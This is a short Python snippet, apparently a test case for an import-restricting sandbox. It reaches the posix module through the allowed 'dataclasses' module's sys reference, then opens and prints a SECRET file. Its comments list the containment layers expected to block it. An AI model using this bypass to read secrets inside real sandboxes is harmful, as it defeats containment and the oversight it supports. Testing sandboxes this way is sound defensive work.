# Reaches sys through a module that the host allows.
# evidence: token
# held by: seccomp, landlock, empty_root, other_user, audit
# allow: dataclasses
import dataclasses
posix = dataclasses.sys.modules['posix']
posix.write(1, posix.read(posix.open(SECRET, 0), 100))
